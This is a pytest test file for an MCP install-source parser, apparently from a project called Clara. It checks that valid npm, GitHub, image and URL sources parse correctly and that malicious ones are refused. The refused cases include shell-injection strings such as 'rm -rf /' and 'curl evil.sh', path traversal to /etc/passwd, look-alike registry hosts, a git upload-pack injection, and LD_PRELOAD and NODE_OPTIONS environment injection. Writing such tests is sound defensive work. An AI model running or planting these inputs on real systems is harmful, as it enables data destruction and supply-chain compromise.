"""Install sources: the grammars, the allow-list, and everything malicious refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from clara.adapters.mcp import SourceError, check_allowed, parse_source


@pytest.mark.parametrize(
    ("text", "kind", "canonical"),
    [
        (
            "@modelcontextprotocol/server-everything",
            "npm",
            "npm:@modelcontextprotocol/server-everything",
        ),
        (
            "npm:@modelcontextprotocol/server-everything@2026.8.31",
            "npm",
            "npm:@modelcontextprotocol/server-everything@2026.8.31",
        ),
        ("mcp-server-time@latest", "npm", "npm:mcp-server-time@latest"),
        ("npm:left-pad@1.3.0-beta.1+build.7", "npm", "npm:left-pad@1.3.0-beta.1+build.7"),
        ("modelcontextprotocol/servers", "github", "github:modelcontextprotocol/servers"),
        ("github:my-org/my.server#v1.2", "github", "github:my-org/my.server#v1.2"),
        ("github:a/b.git", "github", "github:a/b"),
        ("image:ghcr.io/org/mcp-server:1.0", "image", "image:ghcr.io/org/mcp-server:1.0"),
        (
            "image:localhost/a/b@sha256:" + "a" * 64,
            "image",
            "image:localhost/a/b@sha256:" + "a" * 64,
        ),
        ("image:mcp/fetch", "image", "image:mcp/fetch"),
        ("https://mcp.example.com/mcp", "url", "https://mcp.example.com/mcp"),
        ("https://mcp.example.com:8443/v1/sse", "url", "https://mcp.example.com:8443/v1/sse"),
        ("http://127.0.0.1:8123/mcp", "url", "http://127.0.0.1:8123/mcp"),
    ],
)
def test_good_sources_parse_to_their_canonical_form(text: str, kind: str, canonical: str) -> None:
    source = parse_source(text)
    assert (source.kind, source.canonical) == (kind, canonical)


def test_a_local_path_must_be_absolute_inside_a_root_and_exist(tmp_path: Path) -> None:
    root = tmp_path / "mcp"
    (root / "srv").mkdir(parents=True)
    script = root / "srv" / "server.py"
    script.write_text("")
    assert parse_source(f"path:{script}", path_roots=[str(root)]).path == str(script)
    assert parse_source(str(script), path_roots=[str(root)]).kind == "path"
    with pytest.raises(SourceError, match="outside the allowed folders"):
        parse_source("/etc/passwd", path_roots=[str(root)])
    with pytest.raises(SourceError, match="does not exist"):
        parse_source(f"path:{root}/srv/missing.py", path_roots=[str(root)])
    with pytest.raises(SourceError, match="must be absolute"):
        parse_source("path:srv/server.py", path_roots=[str(root)])
    (root / "escape").symlink_to("/etc")
    with pytest.raises(SourceError, match="outside the allowed folders"):
        parse_source(f"path:{root}/escape/passwd", path_roots=[str(root)])


@pytest.mark.parametrize(
    ("text", "why"),
    [
        # shell metacharacters
        ("left-pad; rm -rf /", "contains"),
        ("left-pad&&curl evil.sh", "contains"),
        ("$(whoami)", "contains"),
        ("`id`", "contains"),
        ("left-pad|sh", "contains"),
        ("npm:left-pad>out", "contains"),
        ("github:a/b#main\nrm", "contains"),
        ("left-pad\x00", "contains"),
        # path traversal
        ("path:/srv/mcp/../../etc/passwd", r"'\.\.'"),
        ("../../etc/passwd", "must be absolute"),
        ("npm:@scope/../evil", "not an npm package name"),
        ("github:owner/..", "GitHub repository"),
        ("github:owner/repo#../../x", "git ref"),
        ("github:owner/repo#-upload-pack=evil", "git ref"),
        # look-alike registries and hosts chosen by the source
        ("npm:https://registry.npmjs.org.evil.com/left-pad", "registry is Clara.s setting"),
        ("npm:left-pad@npm:evil-pad", "npm version"),
        ("npm:--registry=https://evil.example/x", "registry is Clara.s setting"),
        ("npm:--registry=evil", "not an npm package name"),
        ("--registry=evil.example/x", "GitHub owner"),
        ("https://registry.npmjs.org@evil.example/x", "credentials"),
        ("https://user:pass@mcp.example.com/mcp", "credentials"),
        ("https://\u0430\u0440\u0440\u04cf\u0435.com/mcp", "non-ASCII"),  # Cyrillic "apple"
        ("http://mcp.example.com/mcp", "plain http"),
        ("ftp://mcp.example.com/x", "scheme"),
        ("github.com.evil.example/owner/repo", "GitHub source"),
        # file: and git@ forms
        ("file:///etc/passwd", "file:"),
        ("file:../left-pad", "file:"),
        ("npm:file:../evil", "npm version|not an npm"),
        ("git@github.com:owner/repo.git", "git@"),
        ("git+ssh://git@github.com/owner/repo", "git"),
        ("git+https://github.com/owner/repo", "git"),
        ("ssh://host/repo", "ssh"),
        # over-long names
        ("npm:" + "a" * 215, "214|characters"),
        ("a" * 301, "characters"),
        ("github:" + "o" * 40 + "/repo", "GitHub owner"),
        ("image:" + "a/" * 130 + "b", "255|characters"),
        ("https://mcp.example.com/" + "p" * 500, "characters"),
        # not anything at all
        ("", "empty"),
        ("npm:UPPERCASE", "not an npm package name"),
        ("npm:.hidden", "not an npm package name"),
        ("npm:node_modules", "reserves"),
        ("npm:left-pad@^1.0.0", "contains|npm version"),
        ("image:UPPER/case", "not an image reference"),
        ("docker:foo", "unknown source prefix"),
    ],
)
def test_malicious_and_malformed_sources_are_refused_naming_the_problem(
    text: str, why: str
) -> None:
    with pytest.raises(SourceError, match=why):
        parse_source(text, path_roots=["/srv/mcp"])


def test_the_allow_list_limits_kinds_and_sources() -> None:
    everything = parse_source("npm:@modelcontextprotocol/server-everything")
    check_allowed(everything, ("npm",), ())
    check_allowed(everything, ("npm",), ("npm:@modelcontextprotocol/*",))
    with pytest.raises(SourceError, match="npm sources are not allowed"):
        check_allowed(everything, ("github",), ())
    with pytest.raises(SourceError, match="matches no pattern of CLARA_MCP_ALLOW"):
        check_allowed(parse_source("npm:left-pad"), ("npm",), ("npm:@modelcontextprotocol/*",))


def test_a_suggested_name_is_a_valid_server_name() -> None:
    assert (
        parse_source("@modelcontextprotocol/server-everything").suggested_name
        == "server-everything"
    )
    assert parse_source("github:Org/My.Server").suggested_name == "my-server"
    assert parse_source("https://mcp.example.com/mcp").suggested_name == "mcp"


def test_secret_environment_variables_are_checked_without_showing_values() -> None:
    from clara.adapters.mcp import parse_env  # noqa: PLC0415

    assert parse_env("GITHUB_TOKEN=ghp_abc123 API_KEY=x=y") == {
        "GITHUB_TOKEN": "ghp_abc123",
        "API_KEY": "x=y",
    }
    assert parse_env("") == {}
    for text, why in [
        ("LD_PRELOAD=/tmp/evil.so", "LD_PRELOAD cannot be set"),
        ("NODE_OPTIONS=--require=/tmp/x", "NODE_OPTIONS cannot be set"),
        ("PATH=/tmp", "PATH cannot be set"),
        ("PYTHONWARNINGS=x", "PYTHONWARNINGS cannot be set"),
        ("lower=1", "is not a variable name"),
        ("TOKEN", "is not NAME=VALUE"),
        ("TOKEN=", "must be 1 to 4096 printable"),
        (" ".join(f"K{n}=v" for n in range(21)), "21 variables; 20 at most"),
    ]:
        with pytest.raises(SourceError, match=why) as caught:
            parse_env(text)
        assert "/tmp/evil.so" not in str(caught.value)
